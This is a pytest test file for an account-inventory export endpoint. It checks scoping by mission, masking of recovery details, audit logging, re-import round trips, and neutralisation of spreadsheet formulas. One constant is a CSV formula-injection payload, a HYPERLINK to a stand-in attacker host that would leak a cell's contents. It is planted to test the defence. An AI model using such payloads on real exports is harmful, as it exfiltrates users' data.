"""``GET /accounts/export``: scoped, masked without the right, formula-safe, and re-importable."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from typing import Any

from fastapi.testclient import TestClient
from sqlmodel import col, select

from secops.audit.models import AuditEvent
from secops.core.db import SessionFactory
from secops.core.principal import Principal, Role
from tests.accounts.io.conftest import EXPORT, csv_file, exported, imported, post_file
from tests.factories.missions import Ministry, acting

RoleOn = Callable[..., Principal]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
CANARY = "canary.nairobi@mfa.example"


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def accounts_of(text: str) -> dict[str, dict[str, str]]:
    return {r["handle"]: r for r in rows_of(text) if r["record"] == "account"}


def seed(client: TestClient, example_csv: str) -> None:
    imported(client, example_csv)
    imported(
        client,
        csv_file(
            "record,mission,email,full_name,platform,handle,tier,kind,owner,recovery_email,"
            "display_name,admins",
            f"person,EMB-NAIROBI,{CANARY},Canary Person,,,,,,,,",
            f"account,EMB-NAIROBI,,,x,@NairobiCanary,mission,institutional,{CANARY},"
            f"{CANARY},Canary,",
            'account,EMB-PARIS,,,other,"' + HYPERLINK.replace('"', '""') + '",mission,'
            "institutional,,,+SUM(1;2),-1+1 (role=admin)",
        ),
    )


def test_an_export_imports_again_with_every_row_unchanged(
    client: TestClient, ministry: Ministry, admin: Principal, example_csv: str
) -> None:
    seed(client, example_csv)

    for file_format in ("csv", "json"):
        report = imported(client, exported(client, file_format), file_format)

        assert report["people"] == {"created": 0, "updated": 0, "unchanged": 4}, file_format
        assert report["accounts"] == {"created": 0, "updated": 0, "unchanged": 5}, file_format


def test_an_export_of_the_same_data_is_the_same_bytes(
    client: TestClient, ministry: Ministry, admin: Principal, example_csv: str
) -> None:
    seed(client, example_csv)
    first = exported(client)

    imported(client, first)

    assert exported(client) == first


def test_cells_that_start_a_formula_are_neutralised(
    client: TestClient, ministry: Ministry, admin: Principal, example_csv: str
) -> None:
    seed(client, example_csv)

    text = exported(client)

    row = next(r for r in rows_of(text) if r["platform"] == "other")
    assert row["handle"] == "'" + HYPERLINK
    assert row["display_name"] == "'+SUM(1;2)"
    assert row["admins"] == "'-1+1 (role=admin)"
    assert accounts_of(text)["ambassadorparis"]["recovery_phone"] == "'+33612345678"
    for cell in (c for r in csv.reader(io.StringIO(text)) for c in r):
        assert not cell or cell[0] not in "=+-@\t\r", cell


def test_the_export_holds_only_the_callers_missions(
    client: TestClient, ministry: Ministry, admin: Principal, role_on: RoleOn, example_csv: str
) -> None:
    seed(client, example_csv)
    role_on(Role.OFFICER, ministry.paris)

    for file_format in ("csv", "json"):
        text = exported(client, file_format)

        assert "Canary" not in text
        assert "canary" not in text.lower()
        assert "lena.varga" not in text.split("mfa_ministry")[0]  # HQ people are not listed
    assert set(accounts_of(exported(client))) == {
        "ambassadorparis",
        "embassyparis",
        "'" + HYPERLINK,
    }


def test_recovery_details_are_masked_for_a_manager(
    client: TestClient, ministry: Ministry, admin: Principal, role_on: RoleOn, example_csv: str
) -> None:
    seed(client, example_csv)
    in_clear = accounts_of(exported(client))["ambassadorparis"]
    role_on(Role.MANAGER, ministry.hq)

    masked = accounts_of(exported(client))["ambassadorparis"]
    document = json.loads(exported(client, "json"))

    assert in_clear["recovery_email"] == "paul.remy.private@gmail.com"
    assert masked["recovery_email"] == "p•••@gmail.com"
    assert masked["recovery_phone"] == "'+33 •• •• •• 78"
    assert "paul.remy.private" not in json.dumps(document)
    recovery = next(a for a in document["accounts"] if a["handle"] == "ambassadorparis")
    assert recovery["recovery"]["email"] == "p•••@gmail.com"


def test_exports_follow_the_list_filters(
    client: TestClient, ministry: Ministry, admin: Principal, example_csv: str
) -> None:
    seed(client, example_csv)

    only_x = accounts_of(exported(client, platform="x"))
    paris = accounts_of(exported(client, mission="EMB-PARIS", status="dormant"))
    missing = client.get(EXPORT, params={"mission": "EMB-NOWHERE"})

    assert set(only_x) == {"mfa_ministry", "ambassadorparis", "nairobicanary"}
    assert set(paris) == {"embassyparis"}
    assert missing.status_code == 404


def test_an_export_is_audited_with_what_it_revealed(
    client: TestClient,
    ministry: Ministry,
    admin: Principal,
    example_csv: str,
    sessions: SessionFactory,
) -> None:
    seed(client, example_csv)

    response = client.get(EXPORT, params={"format": "json", "platform": "x"})

    assert response.headers["content-type"].startswith("application/json")
    assert response.headers["content-disposition"].startswith("attachment; filename=")
    with sessions() as session:
        query = select(AuditEvent).where(col(AuditEvent.action) == "inventory.export")
        (event,) = session.exec(query).all()
    details: dict[str, Any] = event.details
    assert details["filters"] == {"platform": "x"}
    assert (details["accounts"], details["recovery_revealed"], details["recovery_masked"]) == (
        3,
        3,
        0,
    )


def test_a_mission_officer_round_trips_accounts_owned_from_headquarters(
    client: TestClient, ministry: Ministry, admin: Principal, role_on: RoleOn
) -> None:
    imported(
        client,
        csv_file(
            "record,mission,email,full_name,platform,handle,tier,kind,owner,credential_holders",
            "person,HQ,hq.owner@mfa.example,Hana Grech,,,,,,",
            "account,EMB-PARIS,,,x,@parisdesk,mission,institutional,hq.owner@mfa.example,"
            "hq.owner@mfa.example",
        ),
    )
    role_on(Role.OFFICER, ministry.paris)

    text = exported(client)
    report = imported(client, text)

    assert accounts_of(text)["parisdesk"]["owner"] == "hq.owner@mfa.example"
    assert report["accounts"] == {"created": 0, "updated": 0, "unchanged": 1}
    assert report["people"] == {"created": 0, "updated": 0, "unchanged": 0}


def test_rows_of_read_only_missions_import_again_when_unchanged(
    client: TestClient,
    ministry: Ministry,
    admin: Principal,
    example_csv: str,
    act_as: Callable[[Principal], None],
) -> None:
    seed(client, example_csv)
    act_as(
        acting(
            {
                Role.OFFICER: frozenset({ministry.paris.id}),
                Role.MANAGER: frozenset({ministry.nairobi.id}),
            }
        )
    )
    text = exported(client)

    report = imported(client, text)
    changed = post_file(client, text.replace("Canary Person", "Canary Changed"))

    assert "nairobicanary" in accounts_of(text)
    assert report["accounts"]["unchanged"] == 4
    assert [e["text"] for e in changed.json()["errors"]] == [
        "line 2, column email: this person is on a mission you may not change"
    ]


def test_a_failed_api_reading_is_exported_as_such_and_not_laundered_by_a_reimport(
    client: TestClient,
    ministry: Ministry,
    admin: Principal,
    example_csv: str,
    sessions: SessionFactory,
) -> None:
    from secops.accounts.models import Account, AccountFactSheet, FactStatus

    seed(client, example_csv)
    with sessions.begin() as session:
        account = session.exec(select(Account).where(col(Account.handle) == "mfa_ministry")).one()
        sheet = session.get(AccountFactSheet, account.id)
        assert sheet is not None
        mfa = sheet.mfa()
        mfa.source, mfa.fact_status = "api:microsoft_graph", FactStatus.ERROR
        mfa.error_reason = "Authorization_RequestDenied"

    text = exported(client)
    document = json.loads(exported(client, "json"))
    report = imported(client, text)

    assert accounts_of(text)["mfa_ministry"]["mfa_source"] == (
        "api:microsoft_graph (error: Authorization_RequestDenied)"
    )
    group = next(a for a in document["accounts"] if a["handle"] == "mfa_ministry")["mfa"]
    assert (group["source"], group["fact_status"]) == ("api:microsoft_graph", "error")
    assert report["accounts"]["updated"] == 0
    with sessions() as session:
        stored = session.get(AccountFactSheet, account.id)
        assert stored is not None
        assert stored.mfa().fact_status == FactStatus.ERROR
